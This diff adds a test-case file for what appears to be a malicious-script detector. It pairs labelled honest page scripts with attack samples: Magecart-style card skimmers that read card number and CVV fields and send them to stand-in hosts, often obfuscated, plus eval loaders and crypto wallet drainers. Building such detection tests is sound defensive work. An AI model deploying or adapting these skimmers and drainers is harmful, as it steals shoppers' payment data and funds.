@@ -1,0 +1,131 @@
+// Scripts whose values come from early returns, promises, generators, getters, lists of arguments and the text of pages, with
+// their expected verdicts. They are inert: none of them is ever run, and the hosts do not exist.
+import type { HonestCase } from './honest-scripts.cases.ts'
+import type { ScriptCase } from './score-script.cases.ts'
+
+const CARD = `document.querySelector('#cc_number')`
+const CVV = `document.querySelector('#cc_cvv')`
+/** Sends what `get` returns when the order is placed. */
+const sentAtOrder = (get: string): string =>
+  `document.querySelector('#place_order').addEventListener('click',async()=>{fetch('https://stats.example.org/c?d='+encodeURIComponent(${get}))})`
+
+/** Functions of a page, of which one reads a field. */
+const PAGE = Array.from(
+  { length: 60 },
+  (_, i) => `function part${i}(a){var e=document.querySelector('#p${i}');e.hidden=!a;return e.value}`,
+).join('\n')
+const APPROVAL = `const T='0xdAC17F958D2ee523a2206206994597C13D831ec7';async function claim(){await ethereum.enable();const s=new ethers.providers.Web3Provider(ethereum).getSigner();await new ethers.Contract(T,abi,s).approve('0x1234567890AbcdEF1234567890aBcdef12345678',ethers.constants.MaxUint256)}`
+
+export const VALUE_PATH_CASES: readonly ScriptCase[] = [
+  {
+    name: 'a card returned if its field is there',
+    source: `function val(id){var e=document.getElementById(id);if(e){return e.value}return ''};${sentAtOrder(`val('cc_number')+val('cc_cvv')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card returned before nothing is',
+    source: `function val(s){if(!window.opener){return document.querySelector(s).value}}${sentAtOrder(`val('#cc_number')+val('#cc_cvv')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in one of two branches that return',
+    source: `function val(s){if(window.opener){return 'x'}else{return document.querySelector(s).value}}${sentAtOrder(`val('#cc_number')+val('#cc_cvv')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by promises',
+    source: `const read=s=>new Promise(r=>r(document.querySelector(s).value));document.querySelector('#place_order').addEventListener('click',async()=>{const [n,c]=await Promise.all([read('#cc_number'),read('#cc_cvv')]);fetch('https://stats.example.org/p?d='+btoa(n+c),{mode:'no-cors'})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by an async function and then',
+    source: `async function card(){return ${CARD}.value};document.querySelector('#place_order').addEventListener('click',()=>card().then(v=>fetch('https://stats.example.org/c?d='+encodeURIComponent(v))))`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card for which a promise waits',
+    source: `const typed=new Promise(r=>${CVV}.addEventListener('blur',e=>r(e.target.value)));typed.then(v=>fetch('https://stats.example.org/c?n='+${CARD}.value+'&c='+v,{mode:'no-cors'}))`,
+    head: 'magecart',
+  },
+  {
+    name: 'a host that an async function decodes',
+    source: `async function host(){return atob('c3RhdHMuZXhhbXBsZS5vcmc=')}(async()=>{const h=await host();document.querySelector('#place_order').onclick=()=>{new Image().src='https://'+h+'/c?'+${CARD}.value}})()`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields by a generator',
+    source: `function*vals(){for(const e of document.querySelectorAll('input'))yield e.name+'='+e.value}${sentAtOrder(`'cvv'+[...vals()].join('&')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields by getters that are written as text',
+    source: `(function(o){['cc_number','cc_cid'].forEach(function(k){Object.defineProperty(o,k,{enumerable:true,get:function(){return(document.querySelector('[name*="'+k+'"]')||{}).value}})});document.addEventListener('click',function(e){if(e.target.id==='place_order')fetch('https://stats.example.org/?'+encodeURIComponent(JSON.stringify(o)))})})({})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in a list of arguments',
+    source: `function send(n,c){new Image().src='https://stats.example.org/?'+btoa(n+c)}document.querySelector('#place_order').onclick=function(){send.apply(null,(${CARD}.value+'|'+${CVV}.value).split('|'))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'all fields of a checkout, beside its form and kept',
+    source: `document.querySelector('#checkout').onsubmit=function(){var o={},all=document.forms['checkout'].getElementsByTagName('input');for(var e of all)o[e.id]=e.value;sessionStorage.setItem('o',JSON.stringify(o));var x=new XMLHttpRequest();x.open('POST','https://api.order-help.example.org');x.send(sessionStorage.getItem('o'))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'code in the text of an element of the page',
+    source: `window['ev'+'al'](String.fromCharCode.apply(null,document.getElementById('note').innerHTML.split(' ')))`,
+    head: 'malware',
+  },
+  {
+    name: 'markup in a field of the page, by a table',
+    source: `function open(){document.write(read())}function read(){var s=document.getElementById('q').value,o='',i=0;if(!/[^A-Z]/g.exec(s)){do{o+=String.fromCharCode(K.indexOf(s.charAt(i++))<<4|K.indexOf(s.charAt(i++)))}while(i<s.length);return unescape(o)}return 0}var K='ABCDEFGHIJKLMNOP';open()`,
+    head: 'malware',
+  },
+  {
+    name: 'an approval before a page that reads fields',
+    source: `${APPROVAL}\nvar PAGE={${'title:1,'.repeat(900)}}\n${PAGE}`,
+    head: 'malware',
+  },
+  {
+    name: 'tokens that a service lists, given away by calls whose names are in a list',
+    source: `const k=['eth','Contract','methods','transfer','send','click','addEventListener','json','token_address','balance'];document['querySelector']('#claim')[k[6]](k[5],async()=>{const r=await(await fetch('https://deep-index.moralis.io/api/v2/'+me+'/erc20?chain=eth'))[k[7]]();for(const t of r){const c=new web3[k[0]][k[1]](abi,t[k[8]]);await c[k[2]][k[3]](to,t[k[9]])[k[4]]({from:me})}})`,
+    head: 'malware',
+  },
+  {
+    name: 'the rest of a balance as a large number',
+    source: `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const h=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const value='0x'+(BigInt(h)-21000n*30000000000n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x1234567890AbcdEF1234567890aBcdef12345678',value}]})}`,
+    head: 'malware',
+  },
+]
+
+export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
+  {
+    name: 'an address for mail that is decoded from the page',
+    source: `document.querySelectorAll('[data-mail]').forEach(function(e){e.textContent=e.dataset.mail.replace(/[a-z]/gi,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)})})`,
+  },
+  {
+    name: 'a template in the page, compiled',
+    source: `var t=document.getElementById('row').innerHTML;var f=new Function('row','return \`'+t.trim()+'\`');fetch('/rows').then(function(r){return r.json()}).then(function(rows){document.querySelector('#rows').innerHTML=rows.map(f).join('')})`,
+  },
+  {
+    name: 'a preview of decoded text at a click',
+    source: `document.querySelector('#decode').onclick=function(){var s=document.querySelector('#in').value,o='';for(var i=0;i<s.length;i+=2)o+=String.fromCharCode(parseInt(s.substr(i,2),16));document.querySelector('#out').textContent=o}`,
+  },
+  {
+    name: 'fields of a search by a promise, for the site',
+    source: `const read=s=>new Promise(r=>r(document.querySelector(s).value));document.querySelector('#go').onclick=async()=>{const q=await read('#q');location.href='/search?q='+encodeURIComponent(q)}`,
+  },
+  {
+    name: 'a log-in by async functions at another host of the site',
+    source: `async function credentials(){const f=document.querySelector('#login');return{user:f.user.value,password:f.password.value}}document.querySelector('#login').addEventListener('submit',async e=>{e.preventDefault();const r=await fetch('https://auth.shop.example/session',{method:'POST',credentials:'include',body:JSON.stringify(await credentials())});const s=await r.json();location.href=s.next})`,
+  },
+  {
+    name: 'an order that its form only counts',
+    source: `document.querySelector('#checkout').addEventListener('submit',function(){var n=0;document.querySelectorAll('#checkout input').forEach(function(e){if(e.type!=='hidden'&&e.value)n+=1});fetch('https://forms.stats.example/n',{method:'POST',body:JSON.stringify({fields:n})})})`,
+  },
+  {
+    name: 'durations by a generator',
+    source: `function*times(){for(const e of performance.getEntriesByType('resource'))yield{n:e.name,d:e.duration}}addEventListener('pagehide',()=>navigator.sendBeacon('https://rum.stats.example/t',JSON.stringify([...times()])))`,
+  },
+]
